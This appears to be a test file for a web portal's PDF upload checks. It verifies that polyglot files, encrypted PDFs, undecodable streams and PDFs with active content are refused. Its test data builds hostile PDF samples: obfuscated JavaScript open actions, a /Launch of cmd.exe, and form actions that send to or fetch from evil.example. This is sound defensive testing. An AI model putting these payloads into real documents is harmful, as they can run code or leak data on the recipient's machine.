import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { docx, pngBytes } from '../../../test/files/samples.ts';
import type { TestClient } from '../../../test/support/client.ts';
import { pdfBytes } from '../../../test/support/make-files.ts';
import { upload } from '../../../test/support/multipart.ts';
import { testPortal } from '../../../test/support/portal.ts';

const portal = testPortal();
let admin: TestClient;
let before: unknown;
const count = () => portal.db`select count(*)::int as n from files`;
beforeAll(async () => {
  admin = await portal.as('admin');
  before = await count();
});
// Not one of them is kept.
afterAll(async () => expect(await count()).toEqual(before));

describe('a PDF that is something else to another reader is refused', () => {
  test.each([
    ['a page', Buffer.from('<html><script>alert(1)</script>')],
    ['an archive', docx()],
    ['a program', Buffer.from('MZ\x90\0\x03')],
    ['a picture', pngBytes],
    ['a GIF', Buffer.from('GIF89a')],
  ])('%s before it', async (_, start) => {
    expect(await upload(admin, 'plan.pdf', Buffer.concat([start, pdfBytes()]))).toBeProblem(
      'file_not_as_named',
    );
  });
});

const pdfWith = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object, n) =>
      Buffer.concat([Buffer.from(`${n + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
    ),
    Buffer.from('trailer << /Root 1 0 R >>\n%%EOF\n'),
  ]);

const packed = (text: string, type = '/ObjStm') => {
  const bytes = deflateSync(text);
  return Buffer.concat([
    Buffer.from(`<< /Type ${type} /N 1 /First 4 /Filter /FlateDecode /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
};

const action = '/S /JavaScript /JS (app.alert(1))';

describe('a PDF that runs a script or starts a program is refused, and why is said', () => {
  test.each([
    ['when it is opened', pdfWith(`<< /Type /Catalog /OpenAction << ${action} >> >>`)],
    ['without blanks', pdfWith('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>')],
    ['by its names', pdfWith('<< /Names [/JavaScript 2 0 R] >>')],
    ['in letters of numbers', pdfWith('<< /OpenAction << /S /J#61va#53cript /JS (x) >> >>')],
    ['in a packed object', pdfWith(packed(`1 0 << /OpenAction << ${action} >> >>`))],
    ['in a packed object of a hidden kind', pdfWith(packed(`1 0 << ${action} >>`, '/Obj#53tm'))],
    ['in more packed objects than anybody writes', pdfWith('/ObjStm\nstream\nendstream\n'.repeat(10_000))],
    ['in packed objects without end', pdfWith(packed(' '.repeat(40_000_000)))],
    ['by starting another', pdfWith('<< /AA << /O << /S /Launch /F (cmd.exe) >> >> >>')],
    ['in a form of XML', pdfWith('<< /AcroForm << /NeedAppearances true/XFA [(template) 2 0 R] >> >>')],
    ['in a packed form of XML', pdfWith(packed('1 0 << /Fields [] /X#46A 2 0 R >>'))],
    ['by opening what is packed inside', pdfWith('<< /OpenAction << /S /GoToE /T << /R /C /N (a) >> >> >>')],
    ['by sending itself', pdfWith('<< /AA << /O << /S/SubmitForm/F (https://evil.example) >> >> >>')],
    ['by fetching answers', pdfWith('<< /S /Import#44ata /F (//evil.example/a.fdf) >>')],
    ['with a medium', pdfWith('<< /S /Rendition /JS (app.alert(1)) >>')],
  ])('%s', async (_, bytes) => {
    const reply = await upload(admin, 'plan.pdf', bytes);
    expect(reply).toBeProblem('file_has_programs');
    expect(reply.problem?.message).toContain('script');
  });
});

describe('a PDF with packed objects that cannot be looked into is refused', () => {
  const objects = `1 0 << ${action} >>`;
  const deflated = deflateSync(objects);
  const coded = (filter: string, bytes: Buffer) =>
    pdfWith(
      Buffer.concat([
        Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} >>\nstream\n`),
        bytes,
        Buffer.from('\nendstream'),
      ]),
    );
  test.each([
    ['in another coding', coded('/ASCIIHexDecode', Buffer.from(`${Buffer.from(objects).toString('hex')}>`))],
    ['packed twice', coded('[/FlateDecode /FlateDecode]', deflateSync(deflated))],
    [
      'packed with a sum that is wrong, which readers overlook',
      coded('/FlateDecode', Buffer.concat([deflated.subarray(0, -1), Buffer.from([255])])),
    ],
  ])('%s', async (_, bytes) => {
    expect(await upload(admin, 'plan.pdf', bytes)).toBeProblem('file_incomplete');
  });
});

describe('an encrypted PDF is refused, and what to do is said', () => {
  test.each([
    ['by a reference', pdfWith('trailer << /Root 1 0 R /Encrypt 12 0 R >>')],
    ['in the trailer itself', pdfWith('trailer <</Root 1 0 R/Encrypt<</Filter/Standard/V 5>>>>')],
    [
      'behind streams that never end, each searched to the end of the file',
      pdfWith('/ObjStm stream\n'.repeat(1_000), ' '.repeat(1_000_000), '/Encrypt 8 0 R'),
    ],
    ['in a stream of references', pdfWith('7 0 obj << /Type /XRef /Encrypt 8 0 R /W [1 2 1] >>')],
  ])('%s', async (_, bytes) => {
    const reply = await upload(admin, 'statement.pdf', bytes);
    expect(reply).toBeProblem('file_encrypted');
    expect(reply.problem?.message).toContain('without a password');
  });
});
